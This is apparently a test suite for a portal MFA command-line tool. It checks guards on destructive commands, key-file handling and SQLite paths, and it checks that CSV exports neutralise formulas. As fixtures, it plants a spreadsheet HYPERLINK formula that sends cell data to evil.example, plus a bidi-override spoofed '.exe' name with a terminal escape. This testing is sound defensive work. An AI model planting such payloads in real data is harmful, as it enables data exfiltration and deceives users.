/**
 * SPEC §3 "Destructive commands" and "Infrastructure guards", issue 9 findings 6, 7 and the key
 * file / SQLite path findings — each attack run through the built binary, on SQLite and MariaDB
 * where the database matters:
 * - `demo` on a database with real users writes no known-password account; `demo --reset` never
 *   deletes a real organisation that happens to be called acme (exit 6, nothing changed, audited);
 * - `db rollback` refuses to drop tables holding rows without --force; --dry-run changes nothing;
 *   without a terminal it needs --yes (and so do `demo --reset` and `keys rotate`);
 * - a missing `<db>.key` while secrets exist is exit 10, never a silently generated new key;
 * - `--db sqlite:PATH` in a directory that does not exist is exit 10, and creates nothing.
 * Plus SPEC §6 end to end: `org users --csv` neutralises formulas and escapes bidi/zero-width.
 */
import { existsSync, mkdtempSync, readdirSync, rmSync, unlinkSync, writeFileSync } from 'node:fs';
import os from 'node:os';
import path from 'node:path';
import type { Knex } from 'knex';
import { afterAll, beforeAll, describe, expect, it, vi } from 'vitest';
import { generateKeyBase64 } from '../../src/core/primitives/secretBox.js';
import { createDemoTables } from '../../src/db/demoSeeder.js';
import { describeRun, expectOneLineError, makeCliEnv, runCli, type CliResult } from '../support/cli.js';
import { createTestDatabase, describeEachDatabase, type TestDatabase } from '../support/databases.js';
import { captureState, connect, expectStateUnchanged } from '../robustness/helpers.js';
import { DEVON, ERIN, SAM } from '../support/scenario.js';

function ok(r: CliResult): CliResult {
  expect(r.code, describeRun(r)).toBe(0);
  return r;
}

const REAL = { email: 'grace@realcorp.example', name: 'Grace Real' };

describeEachDatabase('infrastructure guards', (getDb) => {
  vi.setConfig({ testTimeout: 120_000 });
  let env: NodeJS.ProcessEnv;
  const cli = (db: TestDatabase, args: string[], stdin?: string) => runCli(['--db', db.url, ...args], { env, stdin, timeoutMs: 60_000 });
  const dbs: { db: TestDatabase; knex: Knex }[] = [];
  /** a fresh, migrated database of this suite's dialect */
  async function fresh(): Promise<{ db: TestDatabase; knex: Knex }> {
    const db = await createTestDatabase(getDb().dialect);
    ok(await cli(db, ['db', 'migrate']));
    const entry = { db, knex: connect(db) };
    dbs.push(entry);
    return entry;
  }
  /** A real organisation as a portal would have it: its row in the portal's table, its MFA policy in portal-mfa's. */
  async function addOrganisation(knex: Knex, slug: string, name: string, now: number): Promise<void> {
    await knex('organisations').insert({ slug, name, created_at: now });
    const org = await knex('organisations').where('slug', slug).first('id');
    await knex('mfa_org_policies').insert({ organisation_id: String(org.id), mfa_required: false, device_trust_allowed: true, updated_at: now });
  }
  async function addRealData(knex: Knex): Promise<void> {
    const now = Date.now();
    // the portal's own tables, with the demo portal's shape (db migrate creates only portal-mfa's)
    expect(await createDemoTables(knex)).toBe(true);
    await addOrganisation(knex, 'acme', 'ACME Real Corp', now);
    await knex('users').insert({ email: REAL.email, name: REAL.name, password_hash: `$2b$10$${'x'.repeat(53)}`, role: 'developer', created_at: now });
    const org = await knex('organisations').where('slug', 'acme').first('id');
    const user = await knex('users').where('email', REAL.email).first('id');
    await knex('organisation_members').insert({ organisation_id: org.id, user_id: user.id, role: 'admin', created_at: now });
  }

  beforeAll(() => {
    env = makeCliEnv({ PORTAL_MFA_KEY: generateKeyBase64() }).env;
  });
  afterAll(async () => {
    for (const { db, knex } of dbs) {
      await knex.destroy();
      await db.drop();
    }
  });

  it('demo refuses (exit 6) on a database with a real user: no demo account written, the real acme kept, refusal audited', async () => {
    const { db, knex } = await fresh();
    await addRealData(knex);
    for (const args of [['demo'], ['demo', '--reset', '--yes'], ['demo', '--reset', '--dry-run'], ['demo', '--members', '5'], ['demo', '--json']]) {
      const before = await captureState(knex, db);
      const r = await cli(db, args);
      expectOneLineError(r, 6, /not demo accounts \(grace@realcorp\.example\).*nothing was changed/);
      expect(r.stdout).toBe('');
      expectStateUnchanged(before, await captureState(knex, db), args.join(' '), ['refused']);
    }
    expect(await knex('users').where('email', SAM.email).first()).toBeUndefined();
    expect(await knex('organisations').where('slug', 'acme').first('name')).toEqual({ name: 'ACME Real Corp' });
    const refused = await knex('mfa_audit_events').whereIn('action', ['demo.create', 'demo.reset']).select('outcome');
    expect(refused.map((r: { outcome: string }) => r.outcome)).toEqual(['refused', 'refused', 'refused', 'refused', 'refused']);
  });

  it('demo refuses a look-alike of a generated member and a real organisation without users', async () => {
    const { db, knex } = await fresh();
    expect(await createDemoTables(knex)).toBe(true);
    await knex('users').insert({
      email: 'member-jane@acme.example',
      name: 'Jane',
      password_hash: `$2b$10$${'x'.repeat(53)}`,
      role: 'developer',
      created_at: Date.now(),
    });
    expectOneLineError(await cli(db, ['demo']), 6, /member-jane@acme\.example/);
    await knex('users').delete();
    await addOrganisation(knex, 'initech', 'Initech', Date.now());
    expectOneLineError(await cli(db, ['demo']), 6, /organisation\(s\) that are not the demo's \(initech\)/);
    expect(Number((await knex('users').count({ n: '*' }).first())?.n)).toBe(0);
  });

  it('demo --reset: --dry-run changes nothing, no terminal needs --yes, --yes resets', async () => {
    const { db, knex } = await fresh();
    ok(await cli(db, ['demo', '--members', '3']));
    await knex('organisation_members').delete();
    const before = await captureState(knex, db);
    const dry = ok(await cli(db, ['demo', '--reset', '--dry-run']));
    expect(dry.stdout).toMatch(/would delete 12 demo user\(s\) and 2 demo organisation\(s\)/);
    expect(dry.stdout).toMatch(/nothing was changed/);
    expectOneLineError(await cli(db, ['demo', '--reset']), 2, /pass --yes/);
    expectStateUnchanged(before, await captureState(knex, db), 'dry run and unconfirmed reset', []);
    // a notice still in the outbox for a demo account goes with it (as the old foreign keys' cascade did)
    const devon = String((await knex('users').where('email', DEVON.email).first('id')).id);
    const now = Date.now();
    await knex('mfa_notifications').insert({
      user_id: devon,
      email: DEVON.email,
      event: 'mfa-enabled',
      subject: 's',
      body: 'b',
      next_attempt_at: now,
      created_at: now,
    });
    ok(await cli(db, ['demo', '--reset', '--yes']));
    expect(Number((await knex('organisation_members').count({ n: '*' }).first())?.n)).toBeGreaterThan(0);
    expect(await knex('mfa_notifications').where('user_id', devon).select('id')).toEqual([]);
  });

  it('db rollback refuses to drop tables holding rows; --dry-run lists them; --force still needs --yes', async () => {
    const { db, knex } = await fresh();
    ok(await cli(db, ['demo']));
    const before = await captureState(knex, db);
    const refused = await cli(db, ['db', 'rollback']);
    // the demo's two organisation policies (and its mapping, its audit rows) are portal-mfa's data
    expectOneLineError(
      refused,
      6,
      /refusing to roll back: it would drop data in .*mfa_audit_events \(\d+ row\(s\)\).*mfa_org_policies \(2 row\(s\)\).*--force/,
    );
    const dry = ok(await cli(db, ['db', 'rollback', '--all', '--dry-run', '--json']));
    const plan = JSON.parse(dry.stdout) as { dryRun: boolean; wouldRollBack: string[]; tables: { name: string; rows: number }[]; needsForce: boolean };
    expect(plan).toMatchObject({ dryRun: true, needsForce: true });
    expect(plan.tables).toContainEqual({ name: 'mfa_org_policies', rows: 2 });
    expect(plan.tables).toContainEqual({ name: 'mfa_settings', rows: 1 });
    // only portal-mfa's own tables: never the portal's (here the demo portal's) identity tables
    expect(plan.tables.map((t) => t.name).filter((t) => !t.startsWith('mfa_'))).toEqual([]);
    expect(plan.wouldRollBack).toContain('20261203000001_own_tables');
    expect(ok(await cli(db, ['db', 'rollback', '--dry-run'])).stdout).toMatch(
      /would roll back .*\n[\s\S]*mfa_org_policies \(2 row\(s\)\)[\s\S]*needs --force[\s\S]*nothing was changed/,
    );
    expectOneLineError(await cli(db, ['db', 'rollback', '--force']), 2, /pass --yes/);
    expectStateUnchanged(before, await captureState(knex, db), 'refused rollbacks', ['refused']);
    expect(await knex.schema.hasTable('mfa_org_policies')).toBe(true);
    ok(await cli(db, ['db', 'rollback', '--force', '--yes']));
    expect(await knex.schema.hasTable('mfa_org_policies')).toBe(false);
    // the portal's users are left as they were
    expect(Number((await knex('users').count({ n: '*' }).first())?.n)).toBe(9);
  });

  it('keys rotate: --dry-run counts and changes nothing; without a terminal it needs --yes', async () => {
    const { db, knex } = await fresh();
    ok(await cli(db, ['demo']));
    ok(await cli(db, ['enroll', '--as', DEVON.email, '--password-stdin', '--no-confirm', '--json'], `${DEVON.password}\n`));
    const dir = mkdtempSync(path.join(os.tmpdir(), 'portal-mfa-newkey-'));
    try {
      const newKeyFile = path.join(dir, 'new.key');
      writeFileSync(newKeyFile, generateKeyBase64() + '\n', { mode: 0o600 });
      const before = await captureState(knex, db);
      const dry = ok(await cli(db, ['keys', 'rotate', '--new-key-file', newKeyFile, '--dry-run', '--json']));
      expect(JSON.parse(dry.stdout)).toMatchObject({ dryRun: true, wouldRotate: 1 });
      expectOneLineError(await cli(db, ['keys', 'rotate', '--new-key-file', newKeyFile]), 2, /pass --yes/);
      expectStateUnchanged(before, await captureState(knex, db), 'keys rotate dry run', []);
    } finally {
      rmSync(dir, { recursive: true, force: true });
    }
  });

  it('org users --csv: formulas neutralised, escapes and bidi overrides shown escaped (and in the table)', async () => {
    const { db, knex } = await fresh();
    ok(await cli(db, ['demo']));
    await knex('users').where('email', ERIN.email).update({ name: '=HYPERLINK("http://evil.example/?"&A1,"Erin")' });
    await knex('users').where('email', DEVON.email).update({ name: 'x' });
    await knex('users').where('email', 'dave@acme.example').update({ name: '@SUM(1+1)\u202egnp.exe\u200b\u001b[2J' });
    const csv = ok(await cli(db, ['org', 'users', '--org', 'acme', '--csv', '--as', SAM.email, '--password-stdin'], `${SAM.password}\n`)).stdout;
    expect(csv).toContain(`"'=HYPERLINK(""http://evil.example/?""&A1,""Erin"")"`);
    expect(csv).toContain(`'@SUM(1+1)\\u202egnp.exe\\u200b\\x1b[2J`);
    // eslint-disable-next-line no-control-regex
    expect(/[\u0000-\u0009\u000b\u000c\u000e-\u001f\u202a-\u202e\u200b]/.test(csv)).toBe(false);
    expect(csv.split('\r\n')[0]).toMatch(/^email,name,role,mfa,enrolledAt,lastUsedAt,trustedDevices/);
    const table = ok(await cli(db, ['org', 'users', '--org', 'acme', '--as', SAM.email, '--password-stdin'], `${SAM.password}\n`)).stdout;
    expect(table).toContain('@SUM(1+1)\\u202egnp.exe\\u200b\\x1b[2J');
    expect(table).not.toMatch(/[\u202e\u200b\u001b]/);
  });
});

describe('SQLite files: the key beside the database, and paths that do not exist', () => {
  let dir: string;
  let env: NodeJS.ProcessEnv;
  const cli = (file: string, args: string[], stdin?: string) => runCli(['--db', `sqlite:${file}`, ...args], { env, stdin, timeoutMs: 60_000 });
  beforeAll(() => {
    dir = mkdtempSync(path.join(os.tmpdir(), 'portal-mfa-guards-'));
    env = makeCliEnv().env; // no PORTAL_MFA_KEY: the key file beside the database is the key
  });
  afterAll(() => rmSync(dir, { recursive: true, force: true }));

  it('a missing <db>.key while secrets exist is exit 10 and no key is generated; without secrets a key is made', async () => {
    const file = path.join(dir, 'portal.db');
    ok(await cli(file, ['db', 'migrate']));
    ok(await cli(file, ['demo']));
    ok(await cli(file, ['enroll', '--as', DEVON.email, '--password-stdin', '--no-confirm', '--json'], `${DEVON.password}\n`));
    expect(existsSync(`${file}.key`)).toBe(true);
    unlinkSync(`${file}.key`);
    const enrol = await cli(file, ['enroll', '--as', ERIN.email, '--password-stdin', '--no-confirm', '--json'], `${ERIN.password}\n`);
    expectOneLineError(enrol, 10, /key file .*portal\.db\.key is missing, but the database holds 1 encrypted secret\(s\)/);
    const confirm = await cli(file, ['enroll', '--as', DEVON.email, '--password-stdin', '--confirm', '123456'], `${DEVON.password}\n`);
    expectOneLineError(confirm, 10, /is missing/);
    expect(existsSync(`${file}.key`)).toBe(false);

    const empty = path.join(dir, 'empty.db');
    ok(await cli(empty, ['db', 'migrate']));
    ok(await cli(empty, ['demo']));
    ok(await cli(empty, ['enroll', '--as', ERIN.email, '--password-stdin', '--no-confirm', '--json'], `${ERIN.password}\n`));
    expect(existsSync(`${empty}.key`)).toBe(true);
  });

  it('--db sqlite:PATH in a directory that does not exist is exit 10 for every command, db migrate and demo included; nothing is created', async () => {
    const typo = path.join(dir, 'typo', 'nested', 'portal.db');
    for (const args of [['db', 'migrate'], ['demo'], ['db', 'status'], ['status', '--as', SAM.email, '--password-stdin']]) {
      const r = await cli(typo, args, `${SAM.password}\n`);
      expectOneLineError(r, 10, /directory .*typo\/nested does not exist/);
    }
    expect(existsSync(path.join(dir, 'typo'))).toBe(false);
  });

  it('only db migrate and demo create a new file in an existing directory; other commands leave none behind', async () => {
    const missing = path.join(dir, 'not-yet.db');
    for (const args of [
      ['db', 'rollback', '--yes'],
      ['status', '--as', SAM.email, '--password-stdin'],
      ['audit', '--as', SAM.email, '--password-stdin'],
    ]) {
      expectOneLineError(await cli(missing, args, `${SAM.password}\n`), 10, /there is no SQLite database at .*not-yet\.db/);
    }
    // db status describes the database that is not there yet, without creating it
    expect(JSON.parse(ok(await cli(missing, ['db', 'status', '--json'])).stdout)).toMatchObject({ current: false, applied: [] });
    expect(readdirSync(dir).filter((f) => f.startsWith('not-yet'))).toEqual([]);
    ok(await cli(missing, ['db', 'migrate']));
    expect(existsSync(missing)).toBe(true);
  });
});
